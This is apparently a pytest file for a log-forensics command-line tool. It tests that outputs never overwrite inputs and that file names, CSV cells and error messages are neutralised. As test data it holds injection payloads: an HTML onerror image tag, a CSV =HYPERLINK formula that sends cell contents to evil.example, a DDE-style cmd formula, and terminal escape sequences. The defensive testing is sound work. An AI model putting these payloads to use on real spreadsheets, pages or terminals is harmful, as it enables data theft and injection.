"""Issue 20, the parts about inputs and outputs: each finding's reproduction as a test.

- never lose input: an output that is one of the inputs - named, found by walking a
  folder, through a symbolic or a hard link - is refused (exit 2, nothing written), by
  every command that writes files;
- inert everywhere: names inside Markdown's HTML blocks, CSV cells (formulas, escapes),
  CLI errors that echo a path, invisible characters and backslashes in names, negative
  limits;
- compare's Markdown is redacted like analyze's;
- bounded numbers: a 20-digit rank (or a 5,000-digit one) is a problem line on the
  serial and the parallel path, never an OverflowError;
- ``forensics analyze -`` reads a tar, tar.gz, tar.xz or zip stream.

The commands run in-process (click's CliRunner) where a monkeypatch must reach them (the
parallel engine on small inputs), else in a child process (``run_cli``: time and
memory bounds, the real stdin and stdout).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import tarfile
import zipfile
from pathlib import Path

import pytest

from forensics import engines
from forensics.case import OutputIsInput, analyze
from forensics.cli import EXIT_USAGE, main
from forensics.events import PID_LIMIT, RANK_LIMIT, number_out_of_range
from forensics.inert import csv_cell, md_code, md_html, name
from forensics.knowledge import claimed_int
from tests.test_cli import _stderr, run
from tests.test_security import ERROR_LINE, _outside_code, run_cli

TRACEBACK = (b"Traceback (most recent call last):\n"
             b'  File "/opt/x/worker.py", line 10, in execute_model\n'
             b"    out = self.model(x)\n"
             b"RuntimeError: CUDA error: an illegal memory access was encountered\n")


invoke = run


# --- never lose input ----------------------------------------------------------------------

@pytest.fixture
def bundle(tmp_path):
    folder = tmp_path / "bundle"
    (folder / "ranks").mkdir(parents=True)
    (folder / "good.log").write_bytes(ERROR_LINE * 3)
    (folder / "ranks" / "rank1.log").write_bytes(TRACEBACK)
    return folder


def _contents(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("how", ["inside", "deeper", "symlink-elsewhere", "hardlink-elsewhere", "symlink-inside"])
def test_an_output_found_among_the_inputs_is_refused(bundle, tmp_path, monkeypatch, how):
    """The reproduction: ``forensics analyze . -o good.log`` from inside the folder
    overwrote the log with the report and exited 0."""
    monkeypatch.chdir(bundle)
    if how == "inside":
        target = "good.log"
    elif how == "deeper":
        target = "ranks/rank1.log"
    elif how == "symlink-elsewhere":
        target = str(tmp_path / "report.md")
        os.symlink(bundle / "good.log", target)
    elif how == "hardlink-elsewhere":
        target = str(tmp_path / "report.md")
        os.link(bundle / "ranks" / "rank1.log", target)
    else:
        target = "alias.md"                 # a link inside the folder, to a log inside it
        os.symlink("good.log", target)
    before = _contents(bundle)
    result = invoke("analyze", ".", "--format", "markdown", "-o", target)
    assert result.exit_code == EXIT_USAGE, result.output
    assert "would destroy the evidence" in _stderr(result)
    assert _contents(bundle) == before
    if how.endswith("elsewhere"):
        assert Path(target).read_bytes() in before.values()


def test_every_command_that_writes_refuses_an_input(bundle):
    log, other = bundle / "good.log", bundle / "ranks" / "rank1.log"
    before = _contents(bundle)
    for args in (["analyze", bundle, "-o", log],
                 ["analyze", bundle, "--format", "markdown", "--title-file", other],
                 ["timeline", bundle, "--csv", log],
                 ["timeline", bundle, "--jsonl", other],
                 ["timeline", bundle, "--parquet", log],
                 ["compare", bundle, bundle / "ranks", "-o", other]):
        result = invoke(*args)
        assert result.exit_code == EXIT_USAGE, (args, result.output)
        assert "Traceback" not in result.output
        assert _contents(bundle) == before, args


def test_an_archive_in_the_folder_is_an_input_too(bundle):
    archive = bundle / "old.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(bundle / "good.log", arcname="good.log")
    before = archive.read_bytes()
    result = invoke("analyze", bundle, "-o", archive)
    assert result.exit_code == EXIT_USAGE
    assert archive.read_bytes() == before


def test_an_output_beside_the_inputs_is_written(bundle, tmp_path):
    """Refusing is for inputs only: a new file inside the folder, and a file outside it
    that exists already, are written as before."""
    new = bundle / "report.md"
    assert invoke("analyze", bundle, "--format", "markdown", "-o", new).exit_code == 0
    assert new.read_text().startswith("**Suggested title:**")
    old = tmp_path / "old.json"
    old.write_text("{}")
    assert invoke("analyze", bundle, "--format", "json", "-o", old).exit_code == 0
    assert json.loads(old.read_text())["schema"].startswith("forensics.report/")


def test_stdin_redirected_from_the_output_is_refused(tmp_path):
    """``forensics analyze - -o server.log < server.log``: stdin is that file."""
    import subprocess
    import sys
    from tests.test_security import _RUNNER
    log = tmp_path / "server.log"
    log.write_bytes(ERROR_LINE * 3)
    with open(log, "rb") as stdin:
        proc = subprocess.run([sys.executable, "-c", _RUNNER, "analyze", "-", "-o", str(log)], stdin=stdin,
                              capture_output=True, timeout=60)
    assert proc.returncode == EXIT_USAGE, proc.stderr
    assert b"would destroy the evidence" in proc.stderr
    assert log.read_bytes() == ERROR_LINE * 3


def test_the_api_refuses_before_anything_is_parsed(bundle, monkeypatch):
    from forensics import case as case_module
    parsed = []
    monkeypatch.setattr(case_module, "parse_source", lambda s: parsed.append(s) or None)
    with pytest.raises(OutputIsInput, match="ranks/rank1.log"):
        analyze(str(bundle), outputs=(str(bundle / "ranks" / "rank1.log"),))
    assert parsed == []


def test_collect_refuses_an_output_that_would_replace_a_log(bundle):
    kept = bundle / "earlier.tar.gz"
    kept.write_bytes(gzip.compress(b"x"))
    result = invoke("collect", bundle, "-o", kept)
    assert result.exit_code == EXIT_USAGE and "one of the folders collected" in _stderr(result)
    assert gzip.decompress(kept.read_bytes()) == b"x"


# --- inert: Markdown HTML blocks and code spans --------------------------------------------------

HOSTILE_NAME = "@someone #42 <img src=x onerror=alert(1)> <!-- `tick` ``x``.log"


def test_md_html_escapes_html_and_breaks_mentions():
    text = md_html(HOSTILE_NAME, code=True)
    assert text.startswith("<code>") and text.endswith("</code>")
    inner = text[len("<code>"):-len("</code>")]
    assert "<" not in inner and ">" not in inner
    assert "&lt;img" in inner and "&lt;!--" in inner
    assert not re.search(r"[@#](?!\u200b)[\w-]", inner.replace("&#x27;", "")), inner
    assert md_html("it's \"quoted\" & #1") == "it&#x27;s &quot;quoted&quot; &amp; #\u200b1"


def test_file_names_in_the_markdown_details_blocks_are_inert(tmp_path):
    """The reproduction: a file name inside ``<details><summary>`` pinged, linked #42,
    loaded an image and opened a comment that hid the rest of the issue."""
    folder = tmp_path / "b"
    folder.mkdir()
    (folder / HOSTILE_NAME).write_bytes(TRACEBACK)
    report = tmp_path / "r.md"
    assert invoke("analyze", folder, "--format", "markdown", "-o", report).exit_code == 0
    text = report.read_text(encoding="utf-8")
    summaries = re.findall(r"^<details><summary>(.*)</summary>$", text, re.M)
    assert summaries and any("img src" in s for s in summaries), summaries
    for line in summaries:
        # the only tags are the report's own code element; nothing from the name is HTML
        assert re.sub(r"</?code>", "", line).count("<") == 0, line
        assert "<!--" not in line and "<img" not in line
        assert not re.search(r"(?<![\w\u200b&])[@#](?!\u200b)[\w-]", re.sub(r"&#?\w+;", "", line)), line
    outside = _outside_code(text)
    assert "<img" not in outside and "<!--" not in outside


def test_names_in_code_spans_cannot_break_out():
    for value in ("a`b", "``x``", "` <img src=y> `", "x | y", "`", "line\nbreak <b>"):
        span = md_code(value, table=True)
        assert _outside_code(span) == "", (value, span)
        assert "\n" not in span


# --- inert: CSV ---------------------------------------------------------------------------------

def test_csv_cells_are_neither_formulas_nor_escapes():
    for cell in ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1",
                 "\uff1dcmd"):
        assert csv_cell(cell).startswith("'"), cell
    assert csv_cell("\rx") == "x"                 # a CR is a control character: removed first
    assert csv_cell("RuntimeError: x") == "RuntimeError: x"
    assert csv_cell("a\x1b]0;t\x07b\x9b31mc\td\ne") == "ab" + "c\td\ne"
    assert csv_cell(3) == 3 and csv_cell(None) is None


def test_timeline_csv_neutralises_formulas_and_terminal_escapes(tmp_path):
    """The reproduction: messages, file names and NCCL host prefixes starting with = + -
    @ or TAB reached the CSV as they were (=HYPERLINK(...) exfiltrates when opened), and
    ``--csv -`` wrote a log's escape sequences to the terminal."""
    folder = tmp_path / "b"
    folder.mkdir()
    lines = ["ERROR 03-14 10:00:01 [x.py:1] =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
             "ERROR 03-14 10:00:02 [x.py:1] \x1b]0;pwned\x07\x1b[2J RuntimeError: CUDA error: an illegal memory "
             "access was encountered"]
    (folder / "=cmd|' calc'!A1.log").write_text("\n".join(lines) + "\n")
    for args in (["--csv", "-"], ["--csv", tmp_path / "t.csv"]):
        run = run_cli("timeline", folder, *args, seconds=60)
        assert run.rc == 0, run.err
        text = run.out if args[1] == "-" else Path(args[1]).read_text(encoding="utf-8")
        assert "\x1b" not in text and "\x07" not in text
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows, text
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert any(row["message"].startswith("'=HYPERLINK") for row in rows)
        assert all(row["source"].startswith("'=cmd") for row in rows)


# --- inert: names and errors -------------------------------------------------------------------

def test_names_show_invisible_characters_backslashes_and_bytes():
    assert name("server\u200b.log") == "server\\u200b.log"
    for ch in "\u200b\u200c\u200d\u200e\u200f\u2060\u2061\u2062\u2063\u2064\ufeff\u202a\u202b\u202c\u202d\u202e" \
              "\u2066\u2067\u2068\u2069\u2028\u2029\x85\xa0":
        assert name(f"a{ch}b") == f"a\\u{ord(ch):04x}b"
    assert name("two\nlines.log") == "two\\x0alines.log"
    assert name("esc\x1b[2J.log") == "esc\\x1b[2J.log"
    undecodable = os.fsdecode(b"\xff\xfe.log")
    literal = "\\xff\\xfe.log"
    assert name(undecodable) == "\\xff\\xfe.log"
    assert name(literal) == "\\\\xff\\\\xfe.log"
    assert name(os.fsdecode(b"\x85")) != name("\x85")            # a byte, a C1 character
    assert name("rank-é-日本.log") == "rank-é-日本.log"


def test_two_names_that_looked_alike_are_shown_apart(tmp_path):
    folder = tmp_path / "b"
    folder.mkdir()
    with open(os.path.join(os.fsencode(folder), b"\xff\xfe.log"), "wb") as f:
        f.write(ERROR_LINE)
    (folder / "\\xff\\xfe.log").write_bytes(ERROR_LINE)
    (folder / "server\u200b.log").write_bytes(ERROR_LINE)
    (folder / "forged\nMANIFEST: redacted: yes.log").write_bytes(ERROR_LINE)
    result = invoke("analyze", folder, "--format", "json")
    assert result.exit_code == 0, result.output
    paths = [s["path"] for s in json.loads(result.stdout)["sources"]]
    assert "\\xff\\xfe.log" in paths and "\\\\xff\\\\xfe.log" in paths
    assert "server\\u200b.log" in paths
    assert "forged\\x0aMANIFEST: redacted: yes.log" in paths
    terminal = invoke("analyze", folder, "-v")
    assert not any(line.startswith("MANIFEST") for line in terminal.output.splitlines())
    assert "\u200b" not in terminal.output


@pytest.mark.parametrize("args", [
    ["analyze", "missing\x1b]0;pwned\x07\x1b[2J/x.log"],
    ["analyze", "{log}", "-o", "no\x1b[2Jsuch\x9b31m/r.md"],
    ["compare", "gone\x1b[31m\u202e/"],
    ["analyze", "{log}", "--kb", "kb\x1b]8;;http://evil.example\x07dir"],
])
def test_cli_errors_that_echo_a_path_carry_no_escape(tmp_path, args):
    log = tmp_path / "server.log"
    log.write_bytes(ERROR_LINE)
    run = run_cli(*[a.replace("{log}", str(log)) for a in args], seconds=30)
    assert run.rc == EXIT_USAGE, (run.rc, run.err)
    assert "\x1b" not in run.err and "\x9b" not in run.err and "\x07" not in run.err and "\u202e" not in run.err
    assert run.err.strip(), "the error is said"


@pytest.mark.parametrize("args", [["analyze", "{log}", "--timeline-limit", "-3"],
                                  ["timeline", "{log}", "--limit", "-1"],
                                  ["timeline", "{log}", "--rank", str(2 ** 63)]])
def test_negative_and_absurd_limits_are_refused(tmp_path, args):
    """The reproduction: --timeline-limit -3 was accepted and dropped the crash itself."""
    log = tmp_path / "server.log"
    log.write_bytes(ERROR_LINE)
    result = invoke(*[a.replace("{log}", str(log)) for a in args])
    assert result.exit_code == EXIT_USAGE, result.output
    assert "Traceback" not in result.output


# --- compare is redacted -----------------------------------------------------------------------

def _run(folder: Path, user: str) -> Path:
    folder.mkdir()
    (folder / "server.log").write_text(
        "INFO 03-14 10:00:00 [api_server.py:100] vLLM API server version 0.9.1\n"
        f"INFO 03-14 10:00:00 [api_server.py:101] non-default args: {{'model': '/home/{user}/models/llama', "
        "'tensor_parallel_size': 2}\n"
        "(Worker_TP0 pid=4242) ERROR 03-14 10:00:02 [multiproc_executor.py:1] RuntimeError: CUDA error: an illegal "
        "memory access was encountered\n")
    return folder


def test_compare_markdown_is_redacted_like_analyze(tmp_path):
    """The reproduction: ``forensics compare --format markdown`` was not redacted at all."""
    a, b = _run(tmp_path / "a", "alice"), _run(tmp_path / "b", "bob")
    result = invoke("compare", a, b, "--format", "markdown")
    assert result.exit_code == 0, result.output
    text = result.stdout
    assert "alice" not in text and "bob" not in text
    assert "/home/user-1/models/llama" in text and "/home/user-2/models/llama" in text
    assert "_Redacted before sharing:" in text
    kept = invoke("compare", a, b, "--format", "markdown", "--no-redact").stdout
    assert "/home/alice/models/llama" in kept and "_Redaction: off._" in kept
    as_json = json.loads(invoke("compare", a, b, "--format", "json", "--redact").stdout)
    assert "alice" not in json.dumps(as_json) and as_json["redaction"]["enabled"]
    assert "alice" in invoke("compare", a, b, "--format", "json").stdout      # json: off unless asked, as analyze


# --- bounded numbers ------------------------------------------------------------------------------

HUGE = "9" * 20
ABSURD = "9" * 5000          # past the 4,300 digits Python's int() accepts


def _huge_numbers(folder: Path, digits: str) -> None:
    folder.mkdir()
    lines = [f"(Worker_TP{digits} pid=11) ERROR 12-02 10:00:00 [a.py:1] RuntimeError: CUDA error: an illegal "
             "memory access was encountered",
             f"(Worker_TP0 pid={digits}) ERROR 12-02 10:00:00 [a.py:1] RuntimeError: CUDA error: an illegal memory "
             "access was encountered",
             f"[rank{digits}]:[W1202 10:00:00.000000000 ProcessGroupNCCL.cpp:1000] Watchdog caught collective "
             "operation timeout",
             f"torch.distributed.elastic.multiprocessing.api:[ERROR] failed (exitcode: -6) local_rank: {digits} "
             f"(pid: {digits}) of binary: /usr/bin/python"]
    for n in range(2):       # two files: the parallel engine sends work to processes from two up
        (folder / f"rank{n}.log").write_text("\n".join(lines) + "\n")
    (folder / "good.log").write_bytes(ERROR_LINE)


def test_bounds():
    assert number_out_of_range(RANK_LIMIT - 1, "rank") is None
    assert number_out_of_range(RANK_LIMIT, "rank") == f"rank {RANK_LIMIT}"
    assert number_out_of_range(PID_LIMIT - 1, "subject_pid") is None
    assert number_out_of_range(PID_LIMIT, "pid")
    assert number_out_of_range({"failures": [{"pid": 1, "exit_code": 2 ** 63}]}) == f"number {2 ** 63}"
    assert number_out_of_range({"parallel_ranks": {"TP": RANK_LIMIT}}) == f"rank {RANK_LIMIT}"
    assert number_out_of_range(-1, "rank")
    assert claimed_int("0042") == 42
    assert number_out_of_range(claimed_int(ABSURD), "rank") == "rank of more than 24 digits"


@pytest.mark.parametrize("digits", [HUGE, ABSURD], ids=["20-digits", "5000-digits"])
@pytest.mark.parametrize("path", ["serial", "parallel"])
def test_a_rank_too_large_is_a_problem_line_on_every_path(tmp_path, monkeypatch, path, digits):
    """The reproduction: a 20-digit rank in a bundle past 32 MB (the parallel engine)
    died with OverflowError, exit 1, no report."""
    folder = tmp_path / "b"
    _huge_numbers(folder, digits)
    used = []
    if path == "parallel":
        real = engines.parse_processes

        def spy(sources, parse, workers=None, on_source=None):
            used.append(True)
            return real(sources, parse, workers=2, on_source=on_source)
        monkeypatch.setattr(engines, "PARALLEL_MIN_BYTES", 0)     # the pool on small inputs
        monkeypatch.setattr(engines, "parse_processes", spy)
    case = analyze(str(folder))
    assert used or path == "serial"
    assert case.verdict.error is not None and case.verdict.error.code == 700     # good.log still read
    for source in case.sources:
        assert source.event_lines + source.noise_lines + source.counted_lines + source.unparsed_lines == source.lines
    for source in (s for s in case.sources if s.relpath.startswith("rank")):
        assert source.events == [] and source.unparsed_lines == 4
        assert any("claim a number too large to be real" in p for p in source.problems), source.problems
    assert all(e.rank is None or e.rank < RANK_LIMIT for e in case.events)
    assert len(case.timeline) == len(case.events)                  # the pandas table holds every event
    result = invoke("analyze", folder, "--format", "json")
    assert result.exit_code == 0, result.output
    assert invoke("timeline", folder, "--csv", "-").exit_code == 0


# --- stdin archives --------------------------------------------------------------------------------

def _bundle_bytes(kind: str) -> bytes:
    members = {"logs/server.log": ERROR_LINE, "logs/rank1.log": TRACEBACK}
    out = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for member, data in members.items():
                zf.writestr(member, data)
        return out.getvalue()
    with tarfile.open(fileobj=out, mode={"tar": "w", "tar.gz": "w:gz", "tar.xz": "w:xz", "tar.bz2": "w:bz2"}[kind]) \
            as tar:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize("kind", ["tar", "tar.gz", "tar.xz", "tar.bz2", "zip"])
def test_stdin_reads_an_archive(kind):
    """The reproduction: ``ssh node tar cz logs | forensics analyze -`` was refused."""
    run = run_cli("analyze", "-", "--format", "json", stdin=_bundle_bytes(kind), seconds=60, rss_mb=300)
    assert run.rc == 0, run.err
    document = json.loads(run.out)
    paths = {s["path"] for s in document["sources"]}
    assert {"<stdin>!logs/server.log", "<stdin>!logs/rank1.log"} <= paths, paths
    assert document["verdict"]["error"]["code"] == 700
